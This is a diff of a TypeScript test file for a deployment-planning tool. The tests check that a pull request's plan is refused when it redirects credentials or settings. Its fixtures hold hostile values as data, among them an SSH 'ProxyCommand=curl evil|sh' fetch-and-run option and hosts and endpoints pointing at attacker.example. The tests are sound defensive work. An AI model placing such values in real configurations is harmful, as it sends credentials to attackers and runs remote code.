@@ -14,7 +14,7 @@ import { runInfo, selectPullRequest } from '../lib/github/pull-request';
 import { toArtifact } from '../lib/plan/artifact';
 import { parsePlan, PLACEHOLDER_PREFIX } from '../lib/plan/summary';
 import { placeholderEnv } from '../scripts/pr-plan';
-import { MINIMAL, tempDir } from './helpers';
+import { MINIMAL, shared, tempDir } from './helpers';
 
 const root = path.resolve(__dirname, '..');
 
@@ -89,24 +89,25 @@ describe('the extract command keeps the blobs apart from its own files', () => {
 });
 
 describe('what the plan identity may plan', () => {
-  const base = loadEnvironment(path.join(root, 'environments', 'production.yaml')).config;
-  const withHosts = (hosts: object) => ({ ...base, hosts } as typeof base);
+  const base = shared(() => loadEnvironment(path.join(root, 'environments', 'production.yaml')).config); // when first read, not while the file is collected
+  type Config = ReturnType<typeof base>;
+  const withHosts = (hosts: object) => ({ ...base(), hosts } as Config);
 
   it('plans a pull request that leaves the security-relevant settings alone', () => {
-    const pr = { ...base, services: {} } as typeof base;
-    expect(decide('production', base, pr)).toEqual({ name: 'production', plan: true });
+    const pr = { ...base(), services: {} } as Config;
+    expect(decide('production', base(), pr)).toEqual({ name: 'production', plan: true });
   });
 
   it('refuses, naming the setting, when the pull request moves the credentials elsewhere', () => {
     const cases: [object, string][] = [
-      [withHosts({ core: { ...base.hosts.core, docker: 'ssh://deploy@attacker.example:22' } }), 'hosts.core.docker'],
-      [withHosts({ core: { ...base.hosts.core, sshOptions: ['-o', 'ProxyCommand=curl evil|sh'] } }), 'hosts.core.sshOptions.1'],
-      [{ ...base, state: { ...base.state, endpoint: 'https://attacker.example' } }, 'state.endpoint'],
-      [{ ...base, registries: [] }, 'registries.0'],
-      [{ ...base, github: { ...base.github, owner: 'attacker' } }, 'github.owner'],
+      [withHosts({ core: { ...base().hosts.core, docker: 'ssh://deploy@attacker.example:22' } }), 'hosts.core.docker'],
+      [withHosts({ core: { ...base().hosts.core, sshOptions: ['-o', 'ProxyCommand=curl evil|sh'] } }), 'hosts.core.sshOptions.1'],
+      [{ ...base(), state: { ...base().state, endpoint: 'https://attacker.example' } }, 'state.endpoint'],
+      [{ ...base(), registries: [] }, 'registries.0'],
+      [{ ...base(), github: { ...base().github, owner: 'attacker' } }, 'github.owner'],
     ];
     for (const [pr, path] of cases) {
-      const d = decide('production', base, pr as typeof base);
+      const d = decide('production', base(), pr as Config);
       expect(d.plan, path).toBe(false);
       expect(d.reason).toContain(path);
       expect(d.reason).toContain('a maintainer must plan it');
@@ -114,17 +115,17 @@ describe('what the plan identity may plan', () => {
   });
 
   it('refuses new, removed, unloadable and locally-stated environments', () => {
-    expect(decide('x', undefined, base).reason).toMatch(/not an environment of the default branch/);
-    expect(decide('production', base, undefined).reason).toMatch(/removed or renamed/);
-    expect(decide('production', base, undefined, 'extends leaves the tree').reason).toContain('extends leaves the tree');
-    expect(decide('production', { ...base, state: { backend: 'local' } } as typeof base, base).reason).toMatch(/no state to plan against/);
+    expect(decide('x', undefined, base()).reason).toMatch(/not an environment of the default branch/);
+    expect(decide('production', base(), undefined).reason).toMatch(/removed or renamed/);
+    expect(decide('production', base(), undefined, 'extends leaves the tree').reason).toContain('extends leaves the tree');
+    expect(decide('production', { ...base(), state: { backend: 'local' } } as Config, base()).reason).toMatch(/no state to plan against/);
     expect(changedPaths({ a: [1, 2] }, { a: [1, 3] })).toEqual(['a.1']);
   });
 
   it('an environment without a plan identity is not planned, whatever the pull request changes', () => {
-    const none = { ...base, github: { ...base.github, planEnvironment: undefined } } as typeof base;
+    const none = { ...base(), github: { ...base().github, planEnvironment: undefined } } as Config;
     expect(decide('production', none, none)).toEqual({ name: 'production', plan: false, reason: 'has no `github.planEnvironment`, so no plan identity' });
-    const noGithub = { ...base, github: undefined } as unknown as typeof base;
+    const noGithub = { ...base(), github: undefined } as unknown as Config;
     expect(decide('production', noGithub, noGithub).reason).toBe('has no `github.planEnvironment`, so no plan identity');
   });
 
